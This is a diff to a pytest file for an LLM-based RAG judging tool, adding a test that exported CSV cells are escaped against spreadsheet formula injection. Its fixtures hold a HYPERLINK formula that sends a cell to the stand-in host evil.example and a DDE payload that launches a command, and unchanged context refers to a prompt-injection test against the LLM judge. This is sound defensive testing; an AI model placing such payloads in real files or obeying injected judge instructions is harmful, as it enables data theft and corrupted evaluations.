@@ -3,6 +3,7 @@ inside a document must not change the verdict, and the example must be flagged."
 
 from __future__ import annotations
 
+import csv
 import json
 import threading
 from pathlib import Path
@@ -14,6 +15,7 @@ import pytest
 from ragjudge.cli import main
 
 from .openai_server import OpenAIServer, prompt_text
+from .records import read_lines
 
 # The injected document never states the port 9999 itself: a correct judge must call the
 # response unsupported, whatever the document tells it to do. Newlines try to open new prompt
@@ -50,8 +52,7 @@ def data_file(tmp_path: Path) -> Path:
 
 
 def records(out: Path) -> dict[str, dict[str, Any]]:
-    lines = (out / "judgments.jsonl").read_text(encoding="utf-8").splitlines()
-    return {r["id"]: r for r in map(json.loads, lines)}
+    return {r["id"]: r for r in read_lines(out)}
 
 
 def flags(out: Path) -> dict[str, bool]:
@@ -154,3 +155,59 @@ def test_manipulated_llm_judge_cannot_mark_unsupported_as_supported(
     assert code in found
     assert "overall_inconsistent" in found
     assert flags(out) == {"hostile": True, "clean": False}
+
+
+# --- formulas in the CSV files -----------------------------------------------------------
+
+FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+FORMULA_ROWS = [
+    {
+        "id": FORMULA_ID,
+        "question": "What does the agent do?",
+        "documents": ["The agent listens on port 8080."],
+        "response": "@SUM(1,2) is what the agent computes. The agent listens on port 8080.",
+        "team": "+cmd|' /C calc'!A0",
+    },
+    {
+        "id": "-2+3",
+        "question": "What does the agent do?",
+        "documents": ["The agent listens on port 8080."],
+        "response": "The agent listens on port 8080.",
+        "team": "\tteam-b",
+    },
+]
+
+
+def _csv(path: Path) -> list[dict[str, str]]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    data = tmp_path / "formulas.jsonl"
+    data.write_text("".join(json.dumps(r) + "\n" for r in FORMULA_ROWS), encoding="utf-8")
+    out = tmp_path / "out"
+    assert main(["eval", str(data), "--out", str(out), "--group-by", "team", "--quiet"]) == 0
+
+    # the fault is really there: the data reaches the run as it came
+    records = read_lines(out)
+    assert [r["id"] for r in records] == [FORMULA_ID, "-2+3"]
+    assert records[0]["response_sentences"][0][1].startswith("@SUM(1,2)")
+    assert records[0]["metadata"]["team"] == "+cmd|' /C calc'!A0"
+
+    examples = _csv(out / "examples.csv")
+    assert [row["id"] for row in examples] == ["'" + FORMULA_ID, "'-2+3"]
+    assert [row["team"] for row in examples] == ["'+cmd|' /C calc'!A0", "'\tteam-b"]
+    sentences = _csv(out / "sentences.csv")
+    texts = [row["text"] for row in sentences]
+    assert texts[0] == "'@SUM(1,2) is what the agent computes."
+    assert {row["id"] for row in sentences} == {"'" + FORMULA_ID, "'-2+3"}
+    groups = _csv(out / "groups.csv")
+    assert sorted(row["value"] for row in groups) == ["'\tteam-b", "'+cmd|' /C calc'!A0"]
+    # no cell of any table starts with a formula character
+    for table in (examples, sentences, groups):
+        for row in table:
+            for cell in row.values():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # numbers stay numbers
+    assert float(examples[0]["relevance"]) >= 0.0
